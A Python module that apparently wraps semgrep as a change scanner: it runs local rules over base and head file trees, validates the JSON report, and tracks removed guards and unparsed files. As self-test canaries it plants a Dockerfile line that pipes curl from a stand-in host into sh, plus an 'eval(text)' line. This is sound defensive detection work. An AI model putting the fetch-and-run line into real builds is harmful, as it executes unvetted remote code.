"""semgrep with rules of our own: Python, JavaScript, TypeScript, containers and builds. Nothing is fetched.

Of the wheel only the OCaml program is used, under the name that makes it the command line: 0.3 s a scan instead of
3.5 s, and none of the wheel's Python dependencies. https://github.com/semgrep/semgrep/blob/develop/src/main/Main.ml
"""

import functools
import json
import re
import tempfile
from collections import Counter
from collections.abc import Callable, Iterable, Mapping, Sequence
from pathlib import Path, PurePosixPath
from typing import Any, ClassVar

import yaml  # type: ignore[import-untyped]
from pydantic import BaseModel, Field, ValidationError

from blocks.scanners.tool import Layout, ScannerFailed, Tool, ToolFinding, within
from domain.paths import matches
from domain.policy import Rule
from domain.task import Severity
from domain.trees import LINK, Tree

_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
"""In C where it is there: five times as fast."""
RULE_FILES = tuple(sorted((Path(__file__).parent / "rules").glob("*.yaml")))
UNPARSED = "semgrep/unparsed"
SECONDS_A_RULE = 20
"""Longest that one rule may take on one file; a rule that is stopped is said, as what could not be read."""

MAX_MESSAGE_CHARS = 300
"""A message may quote code."""

_KINDS = {
    **dict.fromkeys((".py", ".pyi", ".pyw"), ".py"),
    **dict.fromkeys((".js", ".jsx", ".mjs", ".cjs"), ".js"),
    **dict.fromkeys((".ts", ".mts", ".cts"), ".ts"),
    ".tsx": ".tsx",
    **dict.fromkeys((".yml", ".yaml", ".tpl"), ".yaml"),
    ".json": ".json",
    **dict.fromkeys((".sh", ".bash", ".zsh", ".ksh"), ".sh"),
    **dict.fromkeys((".html", ".htm", ".vue", ".svelte", ".jinja", ".jinja2", ".j2", ".ejs", ".hbs"), ".html"),
    **dict.fromkeys((".conf", ".npmrc", ".curlrc", ".gitconfig"), ".conf"),
    **dict.fromkeys((".dockerfile", ".containerfile"), ".dockerfile"),
}  # fmt: skip
_NAMES = ((re.compile(r"(?:docker|container)file(?:\..*)?|.*\.(?:docker|container)file", re.I), ".dockerfile"),
          (re.compile(r"(?:gnu)?makefile|\.envrc|entrypoint|jenkinsfile|justfile", re.I), ".sh"),
          (re.compile(r"\.npmrc|\.curlrc|\.gitconfig|caddyfile", re.I), ".conf"))  # fmt: skip
_SHEBANGS = ((re.compile(rb"#![^\n]*\bpython"), ".py"), (re.compile(rb"#![^\n]*\b(?:node|deno|bun)\b"), ".js"),
             (re.compile(rb"#![^\n]*sh\b"), ".sh"))  # fmt: skip

_CANARIES = {"canary.py": b"eval(text)\n", "canary.js": b"eval(text)\n", "canary.ts": b"eval(text)\n",
             "canary.dockerfile": b"RUN curl https://x.example | sh\n"}  # fmt: skip
"""One for each parser that the rules go through."""


class _Line(BaseModel):
    line: int


class _Weight(BaseModel):
    weighs: Severity
    fix: str
    removed: bool = False


class _Extra(BaseModel):
    message: str
    metadata: _Weight


class _Match(BaseModel):
    check_id: str
    path: str
    start: _Line
    extra: _Extra


class _Error(BaseModel):
    type: Any
    message: str = ""
    path: str | None = None


class _Paths(BaseModel):
    scanned: list[str]


class _Report(BaseModel):
    version: str
    results: list[_Match]
    errors: list[_Error]
    paths: _Paths
    skipped_rules: list[Any]


class Semgrep(Tool):
    """semgrep with the rules in `blocks/scanners/rules/`, over changed files on both sides."""

    _block_type_name: ClassVar[str] = "Lockgate semgrep"
    _block_type_slug: ClassVar[str] = "lockgate-semgrep"
    _description: ClassVar[str] = "Weaknesses in Python, JavaScript, containers and builds, new against base."

    CALLED: ClassVar[str | None] = "osemgrep"
    VERSION: ClassVar[tuple[str, ...]] = ("show", "version", "--experimental")

    name: str = Field("semgrep", description="How findings call this scanner")
    program: str | None = Field(None, description="Path of semgrep-core; empty: the one installed with Lockgate")
    skip: tuple[str, ...] = Field(
        ("tests/**", "test/**", "**/__tests__/**", "**/test_*.py", "**/*_test.py", "**/conftest.py", "**/*.test.*",
         "**/*.spec.*"),
        description="Globs of files that are not scanned: tests may do what products may not",
    )  # fmt: skip

    def _argv(self) -> list[str]:
        return [self.program or within("semgrep", "bin/semgrep-core")]

    def _wanted(self, tree: Tree, paths: Iterable[str]) -> Iterable[str]:
        for path in paths:
            if tree[path].mode != LINK and _kind(path, tree[path].content) and not matches(path, self.skip):
                yield path

    def _look(self, trees: Mapping[str, Tree], paths: Callable[[Tree], Iterable[str]]) -> list[ToolFinding]:
        kinds = {path: _kind(path, tree[path].content) for tree in trees.values() for path in paths(tree)}
        with tempfile.TemporaryDirectory(prefix="lockgate-scan-") as name:
            folder = Path(name)
            layout = Layout(folder / "tree", trees, paths, _readable, kinds.__getitem__)
            for canary, content in _CANARIES.items():
                layout.write(canary, content)
            (folder / "rules.json").write_text(json.dumps({"rules": _rules()}))
            report = self._report(folder)
            scanned = set(report.paths.scanned)
            if missing := [one for one in layout.names if f"tree/{one}" not in scanned]:
                raise ScannerFailed(f"it looked at {len(layout) - len(missing)} of {len(layout)} files")
            found = [match for match in report.results if not _is_canary(match.path)]
            if {Path(m.path).name for m in report.results} & _CANARIES.keys() != _CANARIES.keys():
                raise ScannerFailed("it missed what was planted for it")
            # a line that several alternatives of one rule match is said once
            told = {(match.check_id, match.path, match.start.line): match for match in found}
            seen = [_seen(match, layout) for match in told.values() if not match.extra.metadata.removed]
            seen += _removed([match for match in found if match.extra.metadata.removed], layout, trees)
            return seen + [_unread(error, layout) for error in report.errors]

    def _report(self, folder: Path) -> _Report:
        code, output = self._run(
            ["scan", "--experimental", "--config", "rules.json", "--metrics", "off", "--disable-version-check",
             "--json", "--quiet", "--no-git-ignore", "--disable-nosem", "--no-rewrite-rule-ids",
             "--max-target-bytes", "0", "--no-exclude-minified-files", "--no-exclude-binary-files",
             "--x-ignore-semgrepignore-files", "--timeout", str(SECONDS_A_RULE), "--timeout-threshold", "0",
             "--jobs", "2", "tree"], folder,
        )  # fmt: skip
        if code not in (0, 1, 2, 3):
            raise ScannerFailed(f"it ended with exit code {code}")
        try:
            report = _Report.model_validate_json(output)
        except ValidationError as err:
            raise ScannerFailed("it printed something else than its report") from err
        if report.skipped_rules or any(error.path is None for error in report.errors):
            said = " ".join(error.message for error in report.errors if error.path is None)
            raise ScannerFailed(f"it passed over some of its rules: {said[:300]}")
        return report


@functools.cache
def _rules() -> list[dict[str, Any]]:
    """The rules as semgrep takes them, from all files. JSON, since semgrep's own reader of YAML knows no anchors."""
    return [rule for file in RULE_FILES for rule in yaml.load(file.read_text("utf-8"), _LOADER)["rules"]]  # noqa: S506


def _documented(rule: Mapping[str, Any]) -> Rule[None]:
    said = rule["metadata"]
    return Rule(
        f"semgrep/{rule['id']}", "scan", Severity(said["weighs"]), said["what"], said["why"], said["fix"], lambda _: ()
    )


RULES: Sequence[Rule[None]] = (
    *(_documented(rule) for rule in _rules()),
    Rule(
        UNPARSED, "scan", Severity.PERSON,
        "A file that semgrep cannot parse, in whole or in part, or that a rule takes too long for.",
        "It was not scanned, and unknown is not a pass.",
        "mend the syntax; a reviewer agrees where it is for a newer language version",
        lambda _: (),
    ),
)  # fmt: skip


def _kind(path: str, content: bytes) -> str:
    """The suffix under which semgrep knows what this file is; empty for what no rule reads."""
    name = PurePosixPath(path).name
    for pattern, kind in _NAMES:
        if pattern.fullmatch(name):
            return kind
    if kind := _KINDS.get(PurePosixPath(name).suffix.lower(), ""):
        return kind
    return next((kind for pattern, kind in _SHEBANGS if pattern.match(content)), "")


def _readable(content: bytes) -> bytes:
    """UTF-8 without NUL, so that nothing is taken for a binary file."""
    return content.decode("utf-8", "replace").replace("\0", "\ufffd").encode()


def _is_canary(path: str) -> bool:
    return PurePosixPath(path).name in _CANARIES


def _seen(match: _Match, layout: Layout) -> ToolFinding:
    side, path = layout.origin(match.path)
    line, said = match.start.line, match.extra.metadata
    message = " ".join(match.extra.message.split())[:MAX_MESSAGE_CHARS]
    return ToolFinding(
        side=side, path=path, line=line, rule=f"semgrep/{match.check_id}", severity=said.weighs, message=message,
        key=layout.line(side, path, line), fix=said.fix,
    )  # fmt: skip


def _removed(matches: Iterable[_Match], layout: Layout, trees: Mapping[str, Tree]) -> list[ToolFinding]:
    """What base has and the change no longer has, of a thing that is still there: moved to another file is not removed.

    The message of such a rule is `THING is no longer behind GUARD`.
    """
    places = [(*layout.origin(match.path), match) for match in matches]
    kept = Counter(_guard(*place, layout) for place in places if place[0] == "head")
    head = [trees["head"][path].content for path in layout.paths("head")]
    seen = []
    for side, path, match in places:
        guard = _guard(side, path, match, layout)
        if side == "base" and kept[guard] > 0:
            kept[guard] -= 1
        elif side == "base" and any(guard[1].encode() in content for content in head):
            seen.append(_seen(match, layout)._replace(side="head", line=0, key=" ".join(guard)))
    return seen


def _guard(side: str, path: str, match: _Match, layout: Layout) -> tuple[str, str, str]:
    """(rule, thing, guard); of a decorator the whole line, so that another role is another guard."""
    thing, _, guard = match.extra.message.partition(" is no longer behind ")
    line = layout.line(side, path, match.start.line)
    return match.check_id, thing.strip("\"'"), line if line.startswith(f"@{guard}") else guard


def _unread(error: _Error, layout: Layout) -> ToolFinding:
    """Never the same on both sides: a file that was unknown before is still unknown."""
    side, path = layout.origin(error.path or "")
    message = "semgrep could not read all of this file"
    return ToolFinding(side=side, path=path, line=0, rule=UNPARSED, severity=Severity.PERSON, message=message, key=side)
